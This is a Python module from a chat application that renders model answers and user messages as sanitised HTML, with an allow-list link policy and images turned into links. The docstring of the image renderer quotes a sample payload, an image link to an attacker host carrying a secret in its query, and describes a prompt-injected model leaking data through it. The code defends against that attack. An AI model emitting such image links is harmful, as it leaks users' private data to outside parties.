"""Answers (markdown from the model) and user messages (plain text) as safe HTML."""

from __future__ import annotations

import html
import re
from collections.abc import Sequence

from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml, unescapeAll
from markdown_it.renderer import RendererHTML
from markdown_it.rules_block import StateBlock, fence
from markdown_it.rules_core import StateCore
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict

from chat.rendering.code import codeblock, highlight, lang_label
from chat.rendering.mathml import math_plugin
from chat.rendering.sanitiser import is_allowed_url, sanitise_html

__all__ = [
    "BLOCK_PARSER",
    "IMAGE_MARK",
    "INLINE_PASS",
    "MARKDOWN",
    "render_markdown",
    "render_plain",
]

IMAGE_MARK = "\N{FRAME WITH PICTURE}"  # 🖼 — what an image link starts with


def _render_fence(
    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    token = tokens[idx]
    # Decode backslash escapes and entities as markdown-it does before reading the label.
    return codeblock(token.content, lang_label(unescapeAll(token.info)))


def _render_code_block(
    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    # Indented code gets the same wrapper (and copy button) as fenced code.
    return codeblock(tokens[idx].content, "")


def _render_image(
    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    """An image becomes a link to it (or just its alt text): never an `<img>` that loads.

    An image loads without a click, so `![](https://attacker/?q=<secret>)` would exfiltrate
    whatever the model was tricked into putting in the URL.
    """
    token = tokens[idx]
    alt = self.renderInlineAsText(token.children or [], options, env)
    src = str(token.attrGet("src") or "")
    if not is_allowed_url(src):
        return escapeHtml(alt)
    title = token.attrGet("title")
    title_attr = f' title="{escapeHtml(str(title))}"' if title else ""
    label = escapeHtml(alt) or "image"
    return f'<a href="{escapeHtml(src)}"{title_attr}>{IMAGE_MARK} {label}</a>'


_ALIGN_STYLE_RE = re.compile(r"^text-align:(left|center|right)$")


def _apply_answer_policy(state: StateCore) -> None:
    """Core rule after inline parsing: drop disallowed links, turn table `style` into classes.

    A link whose URL is not allowed keeps its text and loses the anchor (rather than
    showing `[text](javascript:…)` verbatim); this one rule is the whole link policy because
    `validateLink` below lets everything through to it.
    """
    for token in state.tokens:
        if token.type in ("th_open", "td_open"):
            align = _ALIGN_STYLE_RE.match(str(token.attrGet("style") or ""))
            token.attrs = {"class": f"align-{align.group(1)}"} if align else {}
        elif token.type == "inline" and token.children:
            dropped: list[bool] = []  # links cannot nest in CommonMark, but be exact anyway
            for child in token.children:
                if child.type == "link_open":
                    drop = not is_allowed_url(str(child.attrGet("href") or ""))
                    dropped.append(drop)
                    child.hidden = drop
                elif child.type == "link_close":
                    child.hidden = dropped.pop() if dropped else True


def _fence_noting_its_close(
    state: StateBlock, start_line: int, end_line: int, silent: bool
) -> bool:
    """markdown-it's fence rule, plus `meta["closed"]` on the token: did a closing fence come?

    Live rendering needs it to know that a code block at the end of the text so far is done;
    the check is markdown-it's own (its helpers, on its own state), not a second grammar.
    """
    if not fence(state, start_line, end_line, silent):
        return False
    if not silent:
        token = state.tokens[-1]
        last = state.line - 1
        closed = False
        if token.map is not None and last > token.map[0] and not state.is_code_block(last):
            pos = state.bMarks[last] + state.tShift[last]
            after = state.skipCharsStr(pos, token.markup[0])
            closed = (
                after - pos >= len(token.markup) and state.skipSpaces(after) >= state.eMarks[last]
            )
        token.meta = {"closed": closed}
    return True


def _build_markdown() -> MarkdownIt:
    md = MarkdownIt(
        "commonmark",
        # html=False: raw HTML in an answer is shown as text, never passed through.
        {"html": False, "linkify": False, "typographer": False, "highlight": highlight},
    ).enable(["table", "strikethrough"])
    # markdown-it's own validateLink is a blocklist (javascript:, vbscript:, file:, most
    # data:); ours is an allow-list applied in _apply_answer_policy and _render_image, so every
    # link reaches it. nh3 then enforces the same schemes a second time.
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    md.block.ruler.at(
        "fence", _fence_noting_its_close, {"alt": ["paragraph", "reference", "blockquote", "list"]}
    )
    math_plugin(md)
    md.core.ruler.push("answer_policy", _apply_answer_policy)
    md.add_render_rule("fence", _render_fence)
    md.add_render_rule("code_block", _render_code_block)
    md.add_render_rule("image", _render_image)
    return md


# One parser for the process: MarkdownIt.render keeps no state between calls.
MARKDOWN = _build_markdown()
# The same block grammar without inline parsing: live rendering asks it only where the
# top-level blocks of the text so far begin and end, which is all it needs to know.
BLOCK_PARSER = _build_markdown()
BLOCK_PARSER.core.ruler.enableOnly(["normalize", "block"])
# The rest of the core chain (inline parsing, the answer policy), run over block tokens that
# BLOCK_PARSER made: a final block is never parsed twice.
INLINE_PASS = _build_markdown()
INLINE_PASS.core.ruler.disable(["normalize", "block"])


def render_markdown(text: str) -> str:
    """An assistant answer (markdown from the model) as sanitised HTML."""
    return sanitise_html(MARKDOWN.render(text))


def render_plain(text: str) -> str:
    """A user's message as HTML: escaped, nothing else.

    Newlines stay as newline characters; the bubble shows them with `white-space: pre-wrap`
    (so pasted code keeps its spaces too, and copying the bubble gives back what was typed).
    """
    return html.escape(text, quote=True)
